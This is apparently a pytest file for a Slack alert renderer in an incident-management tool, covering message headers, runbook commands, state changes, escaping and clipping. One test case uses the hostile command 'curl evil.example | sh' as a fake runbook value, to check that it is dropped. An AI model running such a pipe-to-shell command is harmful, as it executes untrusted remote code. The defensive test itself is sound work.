"""Block Kit rendering: what the on-call engineer reads in the root message and its thread.

Rendering is pure; the last tests render incidents read back from SQLite and PostgreSQL.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from reliability.incidents import flows
from reliability.incidents.models import (
    IncidentEventRead,
    IncidentRead,
    IncidentStatus,
    Severity,
)
from reliability.notify import base, blocks
from reliability.testing.slack import message_content

T0 = datetime(2026, 11, 28, 9, 0, tzinfo=UTC)
COMMAND = "reliability runbook run node-failover --param node=gpu-3"


def incident(**changes) -> IncidentRead:
    fields = {
        "id": 7,
        "fingerprint": "gpu-temperature:gpu-3:1",
        "title": "GPU 1 on gpu-3 is overheating",
        "severity": Severity.critical,
        "status": IncidentStatus.open,
        "source": "rule",
        "labels": {"node": "gpu-3", "gpu": "1", "pool": "green", "rack": "r2"},
        "summary": "gpu_temperature_celsius 91 > 85 for 5m",
        "started_at": T0,
        "last_seen_at": T0,
        "occurrences": 3,
        "acknowledged_at": None,
        "acknowledged_by": None,
        "resolved_at": None,
        "resolved_by": None,
        "reopen_count": 0,
    }
    return IncidentRead(**(fields | changes))


def event(kind: str, **changes) -> IncidentEventRead:
    fields = {"id": 1, "incident_id": 7, "at": T0, "kind": kind, "actor": None}
    return IncidentEventRead(**(fields | {"message": None, "data": None} | changes))


def everything(rendered: blocks.Rendered) -> str:
    return rendered.text + json.dumps(rendered.blocks)


def test_an_open_incident_says_what_where_how_bad_since_when_and_how_to_fix_it():
    rendered = blocks.root_message(
        incident(), runbook=COMMAND, dashboard_url="https://grafana.example/d/gpu"
    )

    header = rendered.blocks[0]
    assert header["type"] == "header"
    assert header["text"]["text"] == "CRITICAL: GPU 1 on gpu-3 is overheating"
    fields = [f["text"] for f in rendered.blocks[1]["fields"]]
    assert "*Node*\ngpu-3" in fields and "*Gpu*\n1" in fields and "*Pool*\ngreen" in fields
    assert any(f.startswith("*Since*\n<!date^1795856400^") for f in fields)
    text = everything(rendered)
    assert "gpu_temperature_celsius 91 &gt; 85 for 5m" in text  # value vs threshold
    assert f"```{COMMAND}```" in text
    assert "<https://grafana.example/d/gpu|Open the Grafana dashboard>" in text
    assert "rack=r2" in text and "Incident #7" in text
    assert rendered.text.startswith("[CRITICAL] GPU 1 on gpu-3 is overheating: ")


def test_without_a_dashboard_or_runbook_there_is_no_link_or_command():
    text = everything(blocks.root_message(incident()))

    assert "Grafana" not in text and "runbook" not in text


def test_acknowledged_names_who_and_resolved_says_by_whom_after_how_long():
    acked = blocks.root_message(
        incident(status=IncidentStatus.acknowledged, acknowledged_by="alice", acknowledged_at=T0)
    )
    resolved = blocks.root_message(
        incident(
            status=IncidentStatus.resolved,
            resolved_by="bob",
            resolved_at=T0 + timedelta(minutes=12, seconds=30),
        ),
        runbook=COMMAND,
    )

    assert acked.text.startswith("[ACKNOWLEDGED CRITICAL]")
    assert "Acknowledged by alice" in everything(acked)
    assert resolved.text.startswith("[RESOLVED CRITICAL]")
    assert "Resolved by bob after 12 min" in everything(resolved)
    assert COMMAND not in everything(resolved)  # nothing left to fix


def test_a_reopened_incident_says_so():
    assert "reopened 2 times" in everything(blocks.root_message(incident(reopen_count=2)))


@pytest.mark.parametrize(
    ("data", "labels", "expected"),
    [
        ({"runbook": COMMAND, "severity": "critical"}, {}, COMMAND),
        (None, {"runbook": COMMAND}, COMMAND),
        ({"runbook": "curl evil.example | sh"}, {}, None),  # not a runbook command: dropped
        ({"severity": "critical"}, {"node": "gpu-3"}, None),
    ],
)
def test_the_runbook_command_comes_from_the_opening_event_or_the_labels(data, labels, expected):
    assert blocks.runbook_command(data, labels) == expected


def test_label_values_cannot_mention_the_channel_or_inject_links():
    rendered = blocks.root_message(
        incident(labels={"node": "<!channel>", "team": "<https://x.example|click>"}),
        runbook=COMMAND,
    )

    text = everything(rendered)
    assert "<!channel>" not in text and "<https://x.example" not in text
    assert "&lt;!channel&gt;" in text


def test_oversized_content_is_clipped_to_what_slack_accepts():
    rendered = blocks.root_message(incident(title="t" * 500, summary="s" * 10_000))

    text, parsed = message_content({"text": rendered.text, "blocks": rendered.blocks})
    assert parsed == rendered.blocks and text  # the stand-in validates as Slack does
    assert len(rendered.blocks[0]["text"]["text"]) == blocks.HEADER_LIMIT


def test_thread_replies_for_refires_notes_and_other_kinds():
    refired = blocks.thread_reply(incident(), event("refired", data={"severity": "warning"}))
    note = blocks.thread_reply(incident(), event("note", actor="carol", message="draining <gpu-3>"))
    progress = blocks.thread_reply(
        incident(), event("runbook_step", actor="reliability", message="step 2/5: drain")
    )

    assert "Fired again" in refired.text and "severity warning" in refired.text
    assert "Note by carol" in note.text and "draining &lt;gpu-3&gt;" in note.text
    assert progress.text.startswith("*Runbook step*") and "step 2/5: drain" in progress.text
    for reply in (refired, note, progress):
        message_content({"text": reply.text, "blocks": reply.blocks})


def test_only_state_changes_edit_the_root():
    assert {k for k in ("opened", "acknowledged", "resolved", "reopened") if base.updates_root(k)}
    assert not any(base.updates_root(k) for k in ("refired", "note", "runbook_step"))


def test_renders_incidents_as_stored_in_the_database(session):
    upsert = flows.open_or_update(
        session,
        fingerprint="api-overload:openai",
        title="Hosted API overloaded",
        severity="warning",
        source="rule",
        labels={"endpoint": "openai", "service": "chat"},
        summary="api_overload_ratio 0.34 > 0.20 for 1m",
        at=T0,
    )
    stored = flows.resolve(
        session, incident_id=upsert.incident.id, by="rule", at=T0 + timedelta(minutes=3)
    ).incident
    session.commit()

    rendered = blocks.root_message(IncidentRead.model_validate(stored))
    fields = [f["text"] for f in rendered.blocks[1]["fields"]]
    assert "*Endpoint*\nopenai" in fields and "*Service*\nchat" in fields
    assert "Resolved by rule after 3 min" in everything(rendered)
    message_content({"text": rendered.text, "blocks": rendered.blocks})
